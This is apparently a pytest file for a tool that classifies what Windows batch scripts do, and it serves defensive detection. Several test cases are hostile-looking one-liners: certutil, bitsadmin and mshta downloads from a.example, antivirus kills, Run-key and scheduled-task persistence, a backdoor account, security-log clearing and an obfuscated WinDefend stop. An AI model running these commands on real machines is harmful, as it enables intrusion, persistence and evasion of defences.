"""What batch files do: variables, blocks, jumps, other shells in them; never more than was written."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hinomi.evidence.scripts.analysis import analyse
from hinomi.evidence.scripts.batch.lines import commands_of, expanded, logical_lines, words_of
from hinomi.evidence.scripts.detect import language_of

PATH = "/Users/ann/x.bat"


def told(text):
    return [(a.action, a.object, a.detail) for a in analyse(PATH, text.encode()).actions]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("@start \"title\" /b C:\\a\\b.exe -q", ("starts", "C:\\a\\b.exe", "-q")),
        ("C:\\a\\b.exe /S", ("starts", "C:\\a\\b.exe", "/S")),
        ("call cmd /c \"taskkill /f /im av.exe\"", ("kills", "av.exe", "taskkill")),
        ("if not exist C:\\x.exe (copy \\\\s\\x.exe C:\\x.exe)", ("copies", "C:\\x.exe", "\\\\s\\x.exe")),
        ("for %%i in (1 2) do del C:\\%%i.log", ("deletes", "C:\\%%i.log", None)),
        ("certutil -urlcache -f http://a.example/b C:\\b.exe 2>&1", ("downloads", "http://a.example/b", "C:\\b.exe")),
        ("bitsadmin /transfer j http://a.example/b C:\\b.exe", ("downloads", "http://a.example/b", "C:\\b.exe")),
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\u.exe /f",
         ("persists", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\U", "C:\\u.exe")),
        ("schtasks /create /sc onlogon /tn T /tr C:\\t.exe", ("persists", "scheduled task T", "C:\\t.exe")),
        ("sc create S binPath= \"C:\\s.exe -k\"", ("persists", "service s", "C:\\s.exe -k")),
        ("net user help P /add", ("adds-account", "help", None)),
        ("wevtutil cl Security", ("clears-log", "Security", None)),
        ("mshta http://a.example/b.hta", ("executes-code", "download", "mshta")),
        ("ping -n 31 127.0.0.1 >nul", ("sleeps", "30", None)),
        ("echo text > C:\\t.txt", ("writes", "C:\\t.txt", "text")),
        ("copy \"%~f0\" C:\\y.bat", ("copies", "C:\\y.bat", PATH)),
        ("powershell -c \"Start-Process C:\\p.exe\"", ("starts", "C:\\p.exe", None)),
        ("set a=xxstopyy\nsc %a:~2,4% WinDefend", ("stops-service", "WinDefend", "sc")),
        ("s^t^art C:\\c.exe", ("starts", "C:\\c.exe", None)),
        ("curl -o ^\nC:\\b.exe http://a.example/b", ("downloads", "http://a.example/b", "C:\\b.exe")),
    ],
)  # fmt: skip
def test_what_is_done_is_told(text, found):
    assert found in told(text)


@pytest.mark.parametrize(
    "text",
    [
        "rem start C:\\a.exe", ":: start C:\\a.exe", "echo start C:\\a.exe", "@echo off\nsetlocal\ngoto :eof",
        "net use Z: \\\\s\\share", "ping -n 3 gateway", "title start C:\\a.exe & pause", "reg query HKCU\\Run", "sc query",
    ],
)  # fmt: skip
def test_what_only_says_or_asks_is_nothing(text):
    assert told(text) == []


def test_a_jump_back_is_a_loop_with_its_interval_and_guard():
    text = ':again\ntasklist | find "a.exe" || start "" C:\\a.exe\ntimeout /t 60 >nul\ngoto again\n'
    starts = next(a for a in analyse(PATH, text.encode()).actions if a.action == "starts")
    assert (starts.in_loop, starts.loop_interval, starts.background) == (True, 60.0, True)
    assert (starts.guard_kind, starts.guard_object) == ("not-running", "a.exe")


def test_utf_16_is_read_and_programs_are_left_alone():
    text = "start C:\\日本.exe\r\n"
    (action,) = analyse(PATH, b"\xff\xfe" + text.encode("utf-16-le")).actions
    assert action.object == "C:\\日本.exe"
    assert language_of(b"/a/x.CMD", b"echo") == "batch"
    assert language_of(b"/a/x.cmd", b"MZ\x90\x00") is None
    assert language_of(b"/a/x.com", b"echo") is None


@settings(deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_split_and_nothing_is_added(text):
    for number, line in logical_lines(text):
        assert number >= 1
        for _, command in commands_of(line):
            assert all(
                word.strip('"') in line.replace("^", "").replace('"', "") or "^" in line for word in words_of(command)
            )
    assert len(expanded(text, {"a": "b" * 9000}, PATH)) <= 8192


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(["set a=%a%%a%", "goto x", ":x", "cmd /c cmd /c start b", "for", "if", "(", ")", "^", "&", "|", "\"", ">",
                                 "powershell -c x", "call", "start", "%a:~9,-9%", "timeout /t 9"]), max_size=40))  # fmt: skip
def test_hostile_text_is_bounded(words):
    found = analyse(PATH, "\n".join([" ".join(words), *words]).encode())
    assert len(found.actions) <= 5000
